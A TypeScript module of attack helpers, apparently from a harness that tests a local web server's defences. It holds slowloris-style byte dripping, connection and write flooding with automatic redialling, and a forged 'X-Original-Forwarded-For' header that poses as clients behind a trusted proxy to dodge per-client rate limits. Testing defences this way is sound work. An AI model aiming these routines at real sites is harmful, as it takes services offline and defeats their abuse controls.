import { connect, type Socket } from 'node:net';

export type Known = { items: readonly string[]; stages: readonly string[]; account: string };

/** The site's port, and the attack's source network, so that limits per network are not shared between attacks. */
export type Target = {
  port: number;
  network: number;
  /** What the site told about itself before the attacks. */
  known: Known;
  /** Counts that much of the attack as having got through. */
  count(amount?: number): void;
};

const ADDRESSES = 4;
const REDIAL_AFTER_MS = 20;

let dialled = 0;

/** Header for a request of one of many clients behind a proxy that the site trusts. */
export function forwardedFrom(client: number): string {
  return `X-Original-Forwarded-For: 10.${(client >> 16) & 255}.${(client >> 8) & 255}.${client & 255}\r\n`;
}

/** Connects as the proxy that the site trusts. */
export function dialAsProxy({ port }: Pick<Target, 'port'>): Socket {
  const socket = connect({ port, host: '127.0.0.1' });
  return socket.on('error', () => socket.destroy());
}

/** Connects from one of four addresses of the attack's network, none of which honest clients use. */
export function dial({ port, network }: Pick<Target, 'port' | 'network'>): Socket {
  const localAddress = `127.0.${network}.${66 + (dialled++ % ADDRESSES)}`;
  const socket = connect({ port, host: '127.0.0.1', localAddress });
  // An attacker expects to be disconnected.
  return socket.on('error', () => socket.destroy());
}

/** Keeps `count` connections open and redials each one that closes. */
export function keepDialling(
  target: Target,
  count: number,
  begin: (socket: Socket) => void,
  connectTo: (target: Target) => Socket = dial,
): void {
  const redial = () => {
    const socket = connectTo(target);
    socket.once('connect', () => begin(socket));
    socket.once('close', () => setTimeout(redial, REDIAL_AFTER_MS));
  };
  for (let i = 0; i < count; i++) redial();
}

/** Sends a byte at a time until the site disconnects. Counts connections held for at least one byte. */
export function drip(socket: Socket, { count }: Target, everyMs: number): void {
  const dripping = setInterval(() => socket.write('x'), everyMs);
  const held = setTimeout(() => count(), everyMs);
  socket.once('close', () => {
    clearInterval(dripping);
    clearTimeout(held);
  });
}

/** Counts the responses with a status. */
export function countAnswers(socket: Socket, status: number, { count }: Target): void {
  const head = `HTTP/1.1 ${status} `;
  socket.on('data', (data) => count(data.toString('latin1').split(head).length - 1));
}

/** Writes the same bytes repeatedly, as fast as the site reads them. */
export function pour(socket: Socket, bytes: Buffer): void {
  const write = () => {
    while (!socket.destroyed && socket.write(bytes));
  };
  socket.on('drain', write);
  write();
}
